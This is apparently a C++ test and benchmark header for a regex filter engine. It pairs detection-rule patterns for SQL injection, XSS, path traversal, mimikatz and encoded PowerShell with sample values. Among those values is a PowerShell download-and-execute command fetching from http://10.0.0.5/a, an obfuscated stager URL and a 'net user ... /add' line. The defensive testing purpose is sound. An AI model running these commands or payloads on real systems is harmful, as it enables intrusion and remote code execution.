#pragma once
// Filter expressions of the shapes that rules take (branches that begin with ".*" or ".*?" in
// alternations and groups, lazy web shapes, the ".*X.*|.*Y.*" of a first rule, the public rule of
// fourteen "+", a long alternation of names), each with the text that the values it is matched
// over repeat and what it looks for, which a value holds at its end or not at all. The expression
// tests hold the filter to plain PCRE's result over them; the pattern benchmark times both.
#include <algorithm>
#include <string>
#include <vector>

// "(?i)\b(host0\.corp\.example\.com|...)\b", an alternation of `count` names.
inline std::string HostNames(int count) {
  std::string names = "(?i)\\b(";
  for (int i = 0; i < count; ++i) {
    names += (i ? "|" : "") + std::string("host") + std::to_string(i) + "\\.corp\\.example\\.com";
  }
  return names + ")\\b";
}

struct cRuleShape {
  std::string expression;
  std::string unit;   // what a value repeats; it holds nothing the expression looks for
  std::string found;  // what the expression looks for
};

// `unit` repeated to `length` bytes and cut before a UTF-8 sequence, then `tail`.
inline std::string ValueOf(const std::string& unit, size_t length, const std::string& tail = "") {
  std::string value;
  while (value.size() + tail.size() < length) value += unit;
  size_t cut = length > tail.size() ? length - tail.size() : 0;
  while (cut > 0 && cut < value.size() && (static_cast<unsigned char>(value[cut]) & 0xC0) == 0x80) --cut;
  value.resize(std::min(cut, value.size()));
  return value + tail;
}

// A value of the shape's kind: with what it looks for at its end, or without.
inline std::string ShapeValue(const cRuleShape& shape, size_t length, bool withFound) {
  return ValueOf(shape.unit, length, withFound ? shape.found : "");
}

inline const std::vector<cRuleShape>& RuleShapes() {
  static const std::string form =
      "name=Jane+Doe&email=jane%40example.com&address=12+Main+St&city=Springfield&zip=12345&"
      "comment=Please+deliver+after+5pm%2C+thanks&";
  static const std::string commandLine =
      "powershell.exe -NoP -NonI -W Hidden -c \"$s='http://10.0.0.5/a'; $c=New-Object Net.WebClient; "
      "$c.Headers.Add('User-Agent','Mozilla/5.0'); iex $c.DownloadString($s)\" & "
      "C:\\Windows\\System32\\cmd.exe /c echo done > C:\\Users\\Public\\out.txt ";
  static const std::string request = "/shop/item.php?id=42&sort=price&q=summer%20dress&page=3&ref=home/ ";
  static const std::string prose =
      "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut "
      "labore et dolore magna aliqua. Ut enim ad minim veniam, quis nostrud exercitation ullamco. ";
  static const std::vector<cRuleShape> shapes = {
      {R"((?i).*?union.*?select|<script)", form, "x=<script>"},
      {R"((?i)(?:.*?cmd\.exe|powershell)\s+-enc)", commandLine, " powershell -enc SQBFAFgA"},
      {R"((?:.*\\temp\\|.*\\appdata\\)\w+\.exe)", commandLine, " C:\\temp\\run.exe"},
      {R"((.*)(whoami|mimikatz)(.*))", commandLine, " whoami /all"},
      {R"((?i)<script.*?>.*?</script>)", form, "x=<script src=a.js>alert(1)</script>"},
      {R"((?i)select.+?from.+?where)", form, "q=select name from users where id=1"},
      {R"((?i)(?:\.\./)+.*?etc/passwd)", request, "../../../../etc/passwd"},
      {R"((?i)(?:%27|')\s*or\s+.*?=)", form, "id=1' or 1=1"},
      {R"(.*whoami.*|.*mimikatz.*)", commandLine, " whoami"},
      {R"(^.*(whoami|net user).*$|.*psexec.*)", commandLine, " net user eve P4ss /add"},
      {R"(\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+)", commandLine,
       " $u='h'+'tt'+'p:'+'//'+'10.'+'0.0'+'.5/'+'s'+'ta'+'ge'+'r.p'+'s1'+'x'+'y'+'z'+'.'+'t'"},
      {HostNames(800), prose, " HOST799.corp.example.com"},
  };
  return shapes;
}
